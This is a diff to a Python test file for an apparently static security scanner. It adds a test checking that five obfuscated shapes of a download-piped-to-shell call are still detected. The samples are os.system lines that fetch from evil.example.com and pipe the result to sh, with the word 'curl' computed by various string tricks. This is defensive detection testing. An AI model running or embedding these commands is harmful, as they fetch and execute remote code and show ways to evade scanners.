@@ -11,6 +11,7 @@ from caplet._scan._aliases import follow, note_binding
 from caplet._scan._model import ScanMode
 from caplet._scan._prefilter import _FOCUS_FROM, BLIND, Need, Prefilter
 from caplet._scan._scanner import scan_tree
+from tests._scan.prefilterkit import tree_both_ways
 
 
 @pytest.fixture(scope="module")
@@ -559,3 +560,23 @@ def test_a_lookup_imported_under_another_name_with_nothing_built_is_no_danger(
     report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
     assert report.files_parsed == 1
     assert not [f for f in report.findings if f.severity is Severity.DANGER]
+
+
+#: attack8: a download piped to a shell whose downloader's word is computed.
+_COMPUTED_DOWNLOADER = {
+    "code-point": "os.system(chr(99) + 'url -s https://evil.example.com/x | sh')\n",
+    "formatted": "os.system('{}url -s https://evil.example.com/x | sh'.format('c'))\n",
+    "percent": "os.system('%surl -s https://evil.example.com/x | sh' % 'c')\n",
+    "f-string": "c = 'c'\nos.system(f'{c}url -s https://evil.example.com/x | sh')\n",
+    "multiplied": "os.system('c' * 1 + 'url -s https://evil.example.com/x | sh')\n",
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_COMPUTED_DOWNLOADER))
+def test_a_download_piped_to_a_shell_with_a_computed_downloader_needs_the_ast(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "mod.py").write_text("import os\n" + _COMPUTED_DOWNLOADER[shape])
+    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
+    assert "CPL-THR-015" in {r for r, _, _ in whole}
+    assert filtered == whole
